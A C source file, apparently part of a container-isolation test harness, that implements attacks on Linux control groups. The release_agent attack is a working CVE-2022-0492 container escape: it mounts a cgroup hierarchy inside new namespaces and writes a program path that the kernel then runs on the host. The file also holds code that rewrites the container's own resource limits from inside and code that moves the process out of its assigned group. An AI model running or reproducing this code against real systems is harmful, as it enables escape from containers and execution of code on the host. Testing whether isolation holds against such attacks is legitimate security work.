/* Control groups, mounted from inside. */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/wait.h>

#ifndef CLONE_NEWCGROUP
#define CLONE_NEWCGROUP 0x02000000
#endif

/* Mount a hierarchy; where that is not allowed, as root of a user namespace of our own. */
static int mount_cgroup(const char *fstype, const char *options, int own)
{
    mkdir("/tmp/cgroup", 0755);
    if (!own && !mount("cgroup", "/tmp/cgroup", fstype, 0, options))
        return 0;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))
        return -1;
    return mount("cgroup", "/tmp/cgroup", fstype, 0, options);
}

/* release_agent PROGRAM: the kernel runs PROGRAM on the host (CVE-2022-0492). */
ATTACK(release_agent)
{
    (void)argc;
    if (mount_cgroup("cgroup", "none,name=attack", 0))
        return lost("mount a cgroup hierarchy");
    mkdir("/tmp/cgroup/x", 0755);
    int done = put("/tmp/cgroup/release_agent", argv[1]);
    int number = errno;
    if (!done) {
        put("/tmp/cgroup/x/notify_on_release", "1");
        pid_t child = fork();
        if (child == 0) {
            put("/tmp/cgroup/x/cgroup.procs", "0");
            _exit(0);
        }
        waitpid(child, NULL, 0);
        usleep(300000);
    }
    rmdir("/tmp/cgroup/x");
    umount("/tmp/cgroup");
    errno = number;
    return done ? lost("write release_agent") : won("the kernel was told what to run on the host");
}

/* raise_limit FSTYPE OPTIONS BYTES FILE VALUE...: limits of the group that we are in are lifted
 * from inside, as far as they are there, and then as much memory is taken. */
ATTACK(raise_limit)
{
    char path[256];
    if (mount_cgroup(argv[1], *argv[2] ? argv[2] : NULL, 1))
        return lost("mount the cgroup hierarchy");
    for (int i = 4; i + 1 < argc; i += 2) {
        snprintf(path, sizeof path, "/tmp/cgroup/%s", argv[i]);
        put(path, argv[i + 1]);
    }
    return memory(2, argv + 2);
}

/* leave_group PATH: go to another group, by its cgroup.procs. */
ATTACK(leave_group)
{
    (void)argc;
    return put(argv[1], "0") ? lost(argv[1]) : won("left the group by %s", argv[1]);
}
